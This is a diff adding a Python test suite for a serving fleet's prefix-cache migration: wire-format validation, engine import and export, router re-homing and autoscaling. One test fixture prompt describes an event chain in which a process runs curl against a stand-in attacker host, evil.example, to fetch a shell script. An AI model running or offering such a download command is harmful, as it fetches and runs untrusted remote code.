@@ -1,0 +1,539 @@
+"""Stateful chain migration (fleet/migrate.py + engine import/export +
+server /cache endpoints + router re-homing + burn-rate autoscaler).
+
+Layers, mirroring the subsystem:
+
+* wire format — CHRMIG payloads roundtrip both pool dtypes and REJECT
+  every corruption class (magic, version, digest, truncation, span
+  bounds) before a single record is constructed;
+* prefix-cache primitives — export pins survive pressure (crash
+  safety), import_chunk enforces the consecutive-chain rule;
+* engine — export→wire→import roundtrips on BOTH KV layouts under
+  CHRONOS_SANITIZE, a corrupt payload degrades to cold re-prefill with
+  zero cache mutations, a chain gap yields a clean partial import;
+* fleet — heuristic replicas migrate chain residency over real HTTP,
+  the router's rehome paths record reasons, a failed import degrades
+  cold without losing a chain, and the autoscaler's scale-out/scale-in
+  drive real membership with a fake clock.
+"""
+import json
+
+import numpy as np
+import pytest
+
+from chronos_trn.config import (
+    AutoscaleConfig,
+    CacheConfig,
+    EngineConfig,
+    FleetConfig,
+    ModelConfig,
+    ServerConfig,
+)
+from chronos_trn.core.prefix_cache import PrefixCache
+from chronos_trn.fleet import migrate
+from chronos_trn.fleet.autoscale import Autoscaler
+from chronos_trn.fleet.pool import ReplicaPool
+from chronos_trn.fleet.router import REHOME_SCALE_IN, FleetRouter
+from chronos_trn.utils.metrics import GLOBAL as METRICS
+
+pytestmark = pytest.mark.migrate
+
+PS = 8
+
+
+def deltas(before: dict, *names) -> dict:
+    after = METRICS.snapshot()
+    return {n: after.get(n, 0.0) - before.get(n, 0.0) for n in names}
+
+
+def _chunk(seed, shape=(2, PS, 2, 4), dtype=np.float32):
+    rng = np.random.default_rng(seed)
+    return rng.standard_normal(shape).astype(dtype)
+
+
+def _payload(dtype="float32"):
+    dt = migrate._np_dtype(dtype)
+    chains = [
+        {
+            "key": "abc123",
+            "prompt": "Event chain:\nEVENT1 exec curl",
+            "token_ids": list(range(24)),
+            "chunks": [(0, _chunk(0, dtype=dt), _chunk(1, dtype=dt)),
+                       (1, _chunk(2, dtype=dt), _chunk(3, dtype=dt))],
+        },
+        # heuristic-replica shape: residency only, no KV
+        {"key": "def456", "prompt": "Event chain:\nEVENT1 fork bash",
+         "token_ids": [], "chunks": []},
+    ]
+    return migrate.encode_payload(PS, dtype, chains), chains
+
+
+# ---------------------------------------------------------------------------
+# wire format
+# ---------------------------------------------------------------------------
+def test_payload_roundtrip_float32():
+    payload, chains = _payload()
+    doc = migrate.decode_payload(payload)
+    assert doc["version"] == migrate.VERSION
+    assert doc["page_size"] == PS and doc["dtype"] == "float32"
+    assert [c["key"] for c in doc["chains"]] == ["abc123", "def456"]
+    got = doc["chains"][0]
+    assert got["prompt"] == chains[0]["prompt"]
+    assert got["token_ids"] == list(range(24))
+    for (i, k, v), (j, gk, gv) in zip(chains[0]["chunks"], got["chunks"]):
+        assert i == j
+        np.testing.assert_array_equal(k, np.asarray(gk))
+        np.testing.assert_array_equal(v, np.asarray(gv))
+    # decoded rows are views over the payload, not copies
+    assert not got["chunks"][0][1].flags.writeable
+    assert doc["chains"][1]["chunks"] == []
+
+
+def test_payload_roundtrip_bfloat16():
+    ml_dtypes = pytest.importorskip("ml_dtypes")
+    payload, chains = _payload("bfloat16")
+    doc = migrate.decode_payload(payload)
+    k = np.asarray(doc["chains"][0]["chunks"][0][1])
+    assert k.dtype == np.dtype(ml_dtypes.bfloat16)
+    np.testing.assert_array_equal(k, chains[0]["chunks"][0][1])
+
+
+@pytest.mark.parametrize("mutate,msg", [
+    (lambda p: b"NOTMIG\x01" + p[8:], "magic"),
+    (lambda p: p[:20], "truncated"),
+    (lambda p: p[:-3], "digest"),
+    (lambda p: p[:60] + bytes([p[60] ^ 0xFF]) + p[61:], "digest"),
+    (lambda p: p + b"trailing", "digest"),
+])
+def test_decode_rejects_corruption(mutate, msg):
+    payload, _ = _payload()
+    with pytest.raises(migrate.MigrationError, match=msg):
+        migrate.decode_payload(mutate(payload))
+
+
+def _forge(header: dict, body: bytes = b"") -> bytes:
+    """Well-digested payload with an arbitrary header — exercises the
+    post-digest verification layers (version, nbytes, span bounds)."""
+    import hashlib
+
+    hdr = json.dumps(header).encode()
+    rest = len(hdr).to_bytes(4, "big") + hdr + body
+    digest = hashlib.blake2b(rest, digest_size=32).digest()
+    return migrate.MAGIC + digest + rest
+
+
+def test_decode_rejects_bad_version_nbytes_and_spans():
+    with pytest.raises(migrate.MigrationError, match="version"):
+        migrate.decode_payload(_forge({"version": 99}))
+    with pytest.raises(migrate.MigrationError, match="length"):
+        migrate.decode_payload(_forge(
+            {"version": 1, "nbytes": 4, "page_size": PS,
+             "dtype": "float32", "chains": []}, body=b"12345678"))
+    # span pointing past the body must be caught BEFORE frombuffer
+    with pytest.raises(migrate.MigrationError, match="bounds"):
+        migrate.decode_payload(_forge(
+            {"version": 1, "nbytes": 8, "page_size": PS,
+             "dtype": "float32",
+             "chains": [{"key": "k", "chunks": [
+                 {"index": 0, "shape": [4], "k": [0, 16], "v": [0, 16]},
+             ]}]}, body=b"\x00" * 8))
+    # span length inconsistent with declared shape x dtype
+    with pytest.raises(migrate.MigrationError, match="shape"):
+        migrate.decode_payload(_forge(
+            {"version": 1, "nbytes": 8, "page_size": PS,
+             "dtype": "float32",
+             "chains": [{"key": "k", "chunks": [
+                 {"index": 0, "shape": [4], "k": [0, 8], "v": [0, 8]},
+             ]}]}, body=b"\x00" * 8))
+
+
+def test_encode_rejects_kv_shape_mismatch():
+    with pytest.raises(migrate.MigrationError, match="mismatch"):
+        migrate.encode_payload(PS, "float32", [{
+            "key": "k", "token_ids": [1],
+            "chunks": [(0, np.zeros((2, PS)), np.zeros((3, PS)))],
+        }])
+
+
+def test_summarize_counts_and_flags_garbage():
+    payload, _ = _payload()
+    assert migrate.summarize(payload) == {
+        "chains": 2, "chunks": 2, "nbytes": len(payload)}
+    assert migrate.summarize(None)["chains"] == 0
+    assert migrate.summarize(b"garbage")["error"] == "unverifiable"
+
+
+# ---------------------------------------------------------------------------
+# prefix-cache migration primitives
+# ---------------------------------------------------------------------------
+def test_pin_chain_survives_pressure_until_unpin():
+    pc = PrefixCache(page_size=PS, capacity_pages=2, slot_major=True)
+    base = list(range(40))  # 5 chunks
+    pc.insert(1, base, 0, kv_chunks=[None] * 5)
+    # pin while the inserting seq still holds refs (the export window),
+    # THEN release the seq: its trim runs with every entry still pinned
+    pin_id, matched = pc.pin_chain(base)
+    assert pin_id < 0 and len(matched) == 5  # export includes the tail
+    pc.release_seq(1)
+    assert pc.resident_chunks(base) == 5
+    pc.trim(None)  # pressure: capacity 2, but every entry is pinned
+    assert pc.resident_chunks(base) == 5
+    pin2, _ = pc.pin_chain(base)
+    assert pin2 != pin_id  # concurrent exports never collide
+    pc.unpin_chain(pin2)
+    pc.unpin_chain(pin_id)  # destination acked: back to LRU life
+    pc.trim(None)
+    assert pc.resident_chunks(base) == 2
+    pc.check_invariants()
+
+
+def test_import_chunk_consecutive_chain_rule():
+    pc = PrefixCache(page_size=PS, slot_major=True)
+    base = list(range(32))  # 4 chunks
+    assert not pc.import_chunk(base, 1)      # parent missing
+    assert pc.import_chunk(base, 0)
+    assert not pc.import_chunk(base, 0)      # dedup: already resident
+    assert pc.import_chunk(base, 1)
+    assert not pc.import_chunk(base, 3)      # gap (2 missing)
+    assert not pc.import_chunk(base, 4)      # beyond cacheable_chunks
+    assert pc.resident_chunks(base) == 2
+    pc.check_invariants()
+
+
+# ---------------------------------------------------------------------------
+# engine roundtrip, both layouts, sanitized
+# ---------------------------------------------------------------------------
+MCFG = ModelConfig.tiny()
+_PARAMS = None
+
+
+def _params():
+    global _PARAMS
+    if _PARAMS is None:
+        import jax
+        from chronos_trn.core import model
+
+        _PARAMS = model.init_params(MCFG, jax.random.PRNGKey(0))
+    return _PARAMS
+
+
+def _engine(layout):
+    from chronos_trn.serving.engine import InferenceEngine
+
+    ccfg = (CacheConfig(page_size=PS, num_pages=128, max_pages_per_seq=16)
+            if layout == "paged"
+            else CacheConfig.for_slots(4, page_size=PS, max_pages_per_seq=16))
+    cfg = EngineConfig(max_batch_slots=4, prefill_buckets=(16, 32, 64),
+                       fused_decode=False, prefix_cache=True,
+                       prefix_cache_pages=64)
+    return InferenceEngine(_params(), MCFG, ccfg, cfg)
+
+
+def _populate(eng, ids, seq=1000):
+    slot = eng.free_slot()
+    eng.occupy(slot, seq)
+    eng.prefill_seq(seq, ids)
+    eng.release(seq)
+
+
+@pytest.mark.parametrize("layout", ["paged", "slot"])
+def test_engine_export_wire_import_roundtrip(layout, monkeypatch):
+    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
+    ids = list(range(1, 41))  # 5 aligned chunks resident after prefill
+    src = _engine(layout)
+    _populate(src, ids)
+    n_resident = src.prefix_cache.resident_chunks(ids)
+    assert n_resident > 0
+    pin_id, chunks = src.export_prefix(ids)
+    assert pin_id is not None and len(chunks) == n_resident
+
+    # the full wire trip: encode on the source, decode at the dest
+    payload = migrate.encode_payload(
+        PS, str(np.asarray(chunks[0][1]).dtype),
+        [{"key": "k", "token_ids": ids, "chunks": chunks}],
+    )
+    doc = migrate.decode_payload(payload)
+
+    dst = _engine(layout)
+    before = METRICS.snapshot()
+    imported = dst.import_prefix(ids, doc["chains"][0]["chunks"])
+    assert imported == n_resident
+    assert dst.prefix_cache.resident_chunks(ids) == n_resident
+    d = deltas(before, "prefix_chunks_imported_total")
+    assert d["prefix_chunks_imported_total"] == imported
+    # a second import of the same payload is a clean no-op (dedup)
+    assert dst.import_prefix(ids, doc["chains"][0]["chunks"]) == 0
+
+    # destination ack: unpin; the source cache returns to LRU life
+    src.release_pin(pin_id)
+    src.prefix_cache.check_invariants()
+    dst.prefix_cache.check_invariants()
+    if layout == "paged":
+        src.alloc.check_invariants()
+        dst.alloc.check_invariants()
+
+    # migrated chains hit warm at the new home: prefill reuses chunks
+    before = METRICS.snapshot()
+    _populate(dst, ids + [77, 78], seq=2000)
+    d = deltas(before, "prefix_cache_hit_tokens")
+    assert d["prefix_cache_hit_tokens"] > 0
+
+
+@pytest.mark.parametrize("layout", ["paged", "slot"])
+def test_corrupt_payload_degrades_to_cold_prefill(layout, monkeypatch):
+    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
+    ids = list(range(1, 41))
+    src = _engine(layout)
+    _populate(src, ids)
+    pin_id, chunks = src.export_prefix(ids)
+    payload = bytearray(migrate.encode_payload(
+        PS, str(np.asarray(chunks[0][1]).dtype),
+        [{"key": "k", "token_ids": ids, "chunks": chunks}],
+    ))
+    payload[-1] ^= 0xFF  # torn transfer
+    src.release_pin(pin_id)
+
+    dst = _engine(layout)
+    with pytest.raises(migrate.MigrationError):
+        migrate.decode_payload(bytes(payload))
+    # verification failed BEFORE any mutation: dst is untouched ...
+    assert dst.prefix_cache.resident_chunks(ids) == 0
+    dst.prefix_cache.check_invariants()
+    # ... and the chain simply re-prefills cold, invariants intact
+    _populate(dst, ids)
+    assert dst.prefix_cache.resident_chunks(ids) > 0
+    dst.prefix_cache.check_invariants()
+    if layout == "paged":
+        dst.alloc.check_invariants()
+
+
+@pytest.mark.parametrize("layout", ["paged", "slot"])
+def test_interrupted_transfer_partial_import_is_clean(layout, monkeypatch):
+    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
+    ids = list(range(1, 41))
+    src = _engine(layout)
+    _populate(src, ids)
+    pin_id, chunks = src.export_prefix(ids)
+    dst = _engine(layout)
+    # chunk 0 lost in transit: nothing past the gap may register
+    assert dst.import_prefix(ids, chunks[1:]) == 0
+    assert dst.prefix_cache.resident_chunks(ids) == 0
+    # middle chunk lost: the consecutive head imports, the tail degrades
+    got = dst.import_prefix(ids, chunks[:2] + chunks[3:])
+    assert got == 2
+    assert dst.prefix_cache.resident_chunks(ids) == 2
+    dst.prefix_cache.check_invariants()
+    src.release_pin(pin_id)
+    src.prefix_cache.check_invariants()
+
+
+# ---------------------------------------------------------------------------
+# fleet: heuristic replicas over real HTTP
+# ---------------------------------------------------------------------------
+def _fcfg(**kw):
+    defaults = dict(
+        probe_interval_s=0.0,
+        breaker_failure_threshold=2,
+        breaker_open_duration_s=60.0,
+        request_timeout_s=10.0,
+        spill_queue_depth=8,
+    )
+    defaults.update(kw)
+    return FleetConfig(**defaults)
+
+
+def _generate(port, prompt):
+    from chronos_trn.sensor.resilience import UrllibTransport
+
+    return UrllibTransport().post_json(
+        f"http://127.0.0.1:{port}/api/generate",
+        {"model": "llama3", "prompt": prompt, "stream": False,
+         "format": "json"},
+        10.0,
+    )
+
+
+PROMPT = (
+    "Analyze the following.\n"
+    "Event chain:\n"
+    "EVENT1 pid=4242 exec /usr/bin/curl http://evil.example/x.sh\n"
+    "EVENT2 pid=4242 connect 203.0.113.9:443\n"
+)
+
+
+def test_server_cache_endpoints_roundtrip_heuristic():
+    pool = ReplicaPool.heuristic(2).start()
+    try:
+        r0, r1 = pool.remote_backends(_fcfg())
+        _generate(pool[0].port, PROMPT)  # ledger notes the chain at r0
+        mig_id, payload = r0.export_chains()
+        assert mig_id and migrate.summarize(payload)["chains"] >= 1
+        res = r1.import_chains(payload)
+        assert res["imported_chains"] >= 1
+        # residency is advertised on the probe for the fleet directory
+        assert r1.probe_ready()
+        keys = {c["key"] for c in migrate.decode_payload(payload)["chains"]}
+        assert keys <= set(r1.last_ready_info["chains"])
+        # ack releases the export pins exactly once
+        assert r0.release_export(mig_id) is True
+        assert r0.release_export(mig_id) is False  # unknown now: 404
+    finally:
+        pool.stop()
+
+
+def test_corrupt_wire_payload_rejected_with_400_and_metric():
+    pool = ReplicaPool.heuristic(2).start()
+    try:
+        r0, r1 = pool.remote_backends(_fcfg())
+        _generate(pool[0].port, PROMPT)
+        mig_id, payload = r0.export_chains()
+        bad = payload[:-1] + bytes([payload[-1] ^ 0xFF])
+        before = METRICS.snapshot()
+        with pytest.raises(Exception):
+            r1.import_chains(bad)
+        d = deltas(before, "migrate_import_rejected_total")
+        assert d["migrate_import_rejected_total"] == 1
+        r0.release_export(mig_id)
+    finally:
+        pool.stop()
+
+
+def test_router_rehome_migrates_and_directory_prefers_new_home():
+    fcfg = _fcfg()
+    pool = ReplicaPool.heuristic(2).start()
+    router = FleetRouter(
+        pool.remote_backends(fcfg), fleet_cfg=fcfg,
+        server_cfg=ServerConfig(host="127.0.0.1", port=0),
+    ).start()
+    try:
+        _generate(router.port, PROMPT)
+        router.probe_once()
+        holders = {n for n, ks in router.status()["directory"].items() if ks}
+        assert len(holders) == 1
+        src = holders.pop()
+        before = METRICS.snapshot()
+        summary = router.rehome_backend(src, reason=REHOME_SCALE_IN)
+        assert summary is not None and not summary["failed"]
+        assert summary["migrated_chains"] >= 1
+        assert summary["chains_rehomed"] >= 1
+        dst = summary["destination"]
+        assert dst != src
+        # optimistic directory update: the new home already advertises
+        key = next(iter(router.directory_view()))
+        assert dst in router.directory_holders(key)
+        d = deltas(before, "fleet_chain_rehomes_total",
+                   "fleet_migrated_chains_total", "fleet_migrations_total")
+        assert d["fleet_chain_rehomes_total"] >= 1
+        assert d["fleet_migrated_chains_total"] >= 1
+        assert d["fleet_migrations_total"] == 1
+    finally:
+        router.stop()
+        pool.stop()
+
+
+def test_router_rehome_failure_degrades_cold_never_loses_chains(monkeypatch):
+    fcfg = _fcfg()
+    pool = ReplicaPool.heuristic(2).start()
+    router = FleetRouter(
+        pool.remote_backends(fcfg), fleet_cfg=fcfg,
+        server_cfg=ServerConfig(host="127.0.0.1", port=0),
+    ).start()
+    try:
+        _generate(router.port, PROMPT)
+        router.probe_once()
+        src = next(n for n, ks in router.status()["directory"].items() if ks)
+        dst_name = next(n for n in router.status()["backends"] if n != src)
+        dst = router.backend(dst_name)
+        monkeypatch.setattr(
+            dst, "import_chains",
+            lambda payload: (_ for _ in ()).throw(RuntimeError("torn")))
+        before = METRICS.snapshot()
+        summary = router.rehome_backend(src, reason=REHOME_SCALE_IN)
+        assert summary["failed"] and summary["migrated_chains"] == 0
+        # the chain is NOT lost: affinity is forgotten (cold re-home,
+        # recorded under reason=migrate_failed rather than the request's)
+        assert summary["chains_rehomed"] >= 1
+        d = deltas(before, "fleet_chain_rehomes_total",
+                   "fleet_migrations_total")
+        assert d["fleet_chain_rehomes_total"] >= 1
+        # the source must not be left pinned: draining but consistent —
+        # a fresh request for the chain re-prefills cold at the sibling
+        status, _, body = _generate(router.port, PROMPT)
+        assert status == 200 and json.loads(body.decode())["done"] is True
+    finally:
+        router.stop()
+        pool.stop()
+
+
+# ---------------------------------------------------------------------------
+# autoscaler: real membership, fake clock
+# ---------------------------------------------------------------------------
+class _Clock:
+    def __init__(self):
+        self.t = 0.0
+
+    def __call__(self):
+        return self.t
+
+
+def _autoscale_fixture(n=2, **cfg_kw):
+    fcfg = _fcfg()
+    pool = ReplicaPool.heuristic(n).start()
+    router = FleetRouter(
+        pool.remote_backends(fcfg), fleet_cfg=fcfg,
+        server_cfg=ServerConfig(host="127.0.0.1", port=0),
+    ).start()
+    clock = _Clock()
+    cfg_kw.setdefault("min_replicas", 1)
+    cfg_kw.setdefault("max_replicas", 3)
+    cfg_kw.setdefault("sustain_ticks", 2)
+    cfg_kw.setdefault("cooldown_s", 10.0)
+    asc = Autoscaler(router, pool,
+                     AutoscaleConfig(enabled=True, **cfg_kw), clock=clock)
+    return router, pool, asc, clock
+
+
+def test_autoscaler_scale_out_then_in_with_cooldown(monkeypatch):
+    router, pool, asc, clock = _autoscale_fixture()
+    try:
+        router.probe_once()
+        # sustained SLO burn: two ticks of firing -> scale-out
+        monkeypatch.setattr(router.slo, "evaluate",
+                            lambda: [{"firing": True}])
+        before = METRICS.snapshot()
+        assert asc.tick() is None  # one vote is not a trend
+        assert asc.tick() == "out"
+        assert len(pool) == 3 and len(router.status()["backends"]) == 3
+        assert pool[-1].name == "r2"  # next_name fills the first hole
+        # the new replica is live and routable immediately (AOT warm)
+        assert _generate(router.port, PROMPT)[0] == 200
+        # quiet fleet now, but cooldown gates the reversal ...
+        monkeypatch.setattr(router.slo, "evaluate", lambda: [])
+        clock.t = 5.0
+        assert asc.tick() is None and asc.tick() is None
+        # ... until the cooldown clock expires
+        clock.t = 20.0
+        assert asc.tick() == "in"
+        assert len(pool) == 2 and len(router.status()["backends"]) == 2
+        d = deltas(before, "fleet_autoscale_events_total")
+        assert d["fleet_autoscale_events_total"] == 2
+        assert asc.status()["events"] == 2
+    finally:
+        router.stop()
+        pool.stop()
+
+
+def test_autoscaler_respects_bounds(monkeypatch):
+    router, pool, asc, clock = _autoscale_fixture(
+        n=2, min_replicas=2, max_replicas=2)
+    try:
+        monkeypatch.setattr(router.slo, "evaluate",
+                            lambda: [{"firing": True}])
+        assert asc.tick() is None and asc.tick() is None  # at max: no out
+        monkeypatch.setattr(router.slo, "evaluate", lambda: [])
+        clock.t = 100.0
+        assert asc.tick() is None and asc.tick() is None  # at min: no in
+        assert len(pool) == 2
+    finally:
+        router.stop()
+        pool.stop()
